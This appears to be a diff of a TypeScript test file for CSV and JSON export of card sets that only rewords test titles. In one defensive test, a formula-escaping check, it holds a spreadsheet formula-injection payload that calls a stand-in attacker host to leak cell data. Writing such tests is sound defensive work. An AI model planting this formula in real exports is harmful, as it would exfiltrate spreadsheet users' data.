@@ -39,7 +39,7 @@ const cardsOf = async (set: number) =>
     .data
 
 describe('a set as CSV', () => {
-  test('is a table with a header, one record a printing, by RFC 4180', async () => {
+  test('is a table with a header and one record per printing, by RFC 4180', async () => {
     for (const set of SETS) {
       const csv = textOf(exportSet(testApp.deps, set, 'csv'))
       expect(parseCsv(csv)[0]).toEqual(HEADER)
@@ -56,7 +56,7 @@ describe('a set as CSV', () => {
     }
   })
 
-  test('has every card of the set, one without prices, too', async () => {
+  test('has every card of the set, including one without prices', async () => {
     for (const set of SETS) {
       const rows = rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))
       const cards = await cardsOf(set)
@@ -72,7 +72,7 @@ describe('a set as CSV', () => {
     })
   })
 
-  test('tells the game and the set in every record', () => {
+  test('has the game and the set in every record', () => {
     for (const row of rowsOf(textOf(exportSet(testApp.deps, 90021, 'csv')))) {
       expect(row).toMatchObject({
         game: 'vellum-and-thorn',
@@ -84,7 +84,7 @@ describe('a set as CSV', () => {
     }
   })
 
-  test('a price that fell is a negative number, not a text', () => {
+  test('writes a negative price change as a number, not as text', () => {
     const falls = SETS.flatMap((set) => rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))).filter(
       (row) => row.price_change_7d?.startsWith('-'),
     )
@@ -92,7 +92,7 @@ describe('a set as CSV', () => {
     for (const row of falls) expect(Number(row.price_change_7d)).toBeLessThan(0)
   })
 
-  test('text that a spreadsheet would run is inert, in whichever column', async () => {
+  test('escapes text that a spreadsheet would run, in every column', async () => {
     const own = await createTestApp()
     const evil = '=HYPERLINK("http://evil.example?"&A1)'
     own.catalogDb
@@ -122,7 +122,7 @@ describe('a set as CSV', () => {
     own.close()
   })
 
-  test('names with commas, quotes and line ends come through', async () => {
+  test('preserves names with commas, quotes and line ends', async () => {
     const own = await createTestApp()
     const name = 'Rock, "Paper"\r\nand Scissors; naïve – Ω カード'
     own.catalogDb.prepare('UPDATE cards SET name = ? WHERE id = 900201').run(name)
@@ -149,7 +149,7 @@ describe('a set as JSON', () => {
 })
 
 describe('several sets', () => {
-  test('are one table, or one array, of what each of them is alone', () => {
+  test('are one table, or one array, of their single exports', () => {
     const csv = rowsOf(textOf(exportSets(testApp.deps, SETS, 'csv')))
     expect(csv).toEqual(SETS.flatMap((set) => rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))))
     const json = JSON.parse(textOf(exportSets(testApp.deps, SETS, 'json')))
@@ -158,18 +158,18 @@ describe('several sets', () => {
     )
   })
 
-  test('tell how far they are', () => {
+  test('report the progress', () => {
     const done: number[] = []
     textOf(exportSets(testApp.deps, SETS, 'csv', (count) => done.push(count)))
     expect(done).toEqual([1, 2, 3, 4, 5])
   })
 
-  test('that are none are an empty table and an empty array', () => {
+  test('that are empty result in an empty table and an empty array', () => {
     expect(parseCsv(textOf(exportSets(testApp.deps, [], 'csv')))).toEqual([HEADER])
     expect(JSON.parse(textOf(exportSets(testApp.deps, [], 'json')))).toEqual([])
   })
 
-  test('of which one is not there are the others', () => {
+  test('without one that is unknown are the others', () => {
     for (const format of EXPORT_FORMATS) {
       const withOut = textOf(exportSets(testApp.deps, [90011, 1, 90012], format))
       const without = textOf(exportSets(testApp.deps, [90011, 90012], format))
